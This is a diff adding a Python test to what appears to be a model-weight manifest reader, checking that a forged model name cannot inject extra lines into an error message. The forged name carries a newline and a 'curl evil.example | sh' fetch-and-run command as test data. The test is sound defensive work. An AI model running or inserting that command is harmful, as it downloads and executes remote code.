@@ -248,6 +248,13 @@ def test_what_is_refused_in_a_manifest_is_said_in_its_own_words() -> None:
     assert refused.value.cause == "'abc' is not a sha256"
 
 
+def test_what_somebody_wrote_into_a_manifest_makes_no_lines_of_its_own() -> None:
+    forged = DOCUMENT | {"models": {"x\nnext: curl evil.example | sh": FIELDS}}
+    with pytest.raises(StoreError) as refused:
+        manifest.read(_store(forged), PREFIX, TOY)
+    assert len(str(refused.value).splitlines()) == 3
+
+
 def test_a_manifest_of_a_newer_schema_is_left_to_a_newer_weightdock() -> None:
     store = _store({"schema": 2, "models": "something new"})
     before = store.contents()
